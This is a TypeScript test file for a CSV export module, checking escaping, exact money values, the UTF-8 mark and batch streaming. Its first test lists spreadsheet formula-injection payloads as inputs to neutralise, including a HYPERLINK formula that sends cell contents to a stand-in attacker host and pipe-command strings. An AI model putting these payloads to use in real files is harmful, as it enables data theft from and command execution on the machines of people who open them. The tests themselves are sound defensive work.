import { Readable } from 'node:stream'
import { expect, test } from 'vitest'
import { readCsv } from '../../../tests/harness/read-csv.ts'
import { jsonNumber } from '../../kernel/money.ts'
import { csvCell, csvFile, csvLine } from './csv.ts'

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '+34600000000',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '＝1',
  '|calc',
  '%0A',
])('%j, which a spreadsheet might run, stands behind an apostrophe', (text) => {
  expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`)
})

test.each(['Ana Ruiz', "O'Neil", 'a=b', '12 USDC; 3 USDT', '日本', ''])('%j stays as it is', (text) => {
  expect(csvCell(text)).toBe(`"${text}"`)
})

test('amounts of ours are exact numbers, also below zero; dates, flags and nothing are themselves', () => {
  const exact = '-12345678901234567890.123456789012345678'
  expect([jsonNumber(exact), new Date(0), true, null, undefined, 3].map(csvCell)).toEqual([
    exact,
    '1970-01-01T00:00:00.000Z',
    'true',
    '',
    '',
    '3',
  ])
  expect(csvCell({ a: '"x"' })).toBe('"{""a"":""\\""x\\""""}"')
})

test('no text breaks out of its cell', () => {
  const nasty = ['a,b', 'say "hi"', 'two\r\nlines', '",=cmd|,"', '""', '\u2028']
  expect(readCsv(csvLine(nasty) + csvLine(['next']))).toEqual([nasty, ['next']])
})

test('a file begins with the mark that spreadsheets need for UTF-8, its header, and is read batch by batch', async () => {
  let read = 0
  async function* batches() {
    for (; read < 1_000; read += 1) yield [[`row ${read}`]]
  }
  const file = csvFile('things', {
    header: ['name'],
    batches: batches(),
    now: new Date('2026-03-04T10:00:00Z'),
  })
  expect(file.headers['content-disposition']).toBe('attachment; filename="things-2026-03-04.csv"')
  if (!(file.bytes instanceof Readable)) throw new Error('it is a stream')
  const chunks = file.bytes[Symbol.asyncIterator]()
  expect(String((await chunks.next()).value)).toBe('\ufeff"name"\r\n')
  expect(String((await chunks.next()).value)).toBe('"row 0"\r\n')
  file.bytes.destroy()
  // What nobody takes is not read: a few batches ahead at most.
  expect(read).toBeLessThan(50)
})
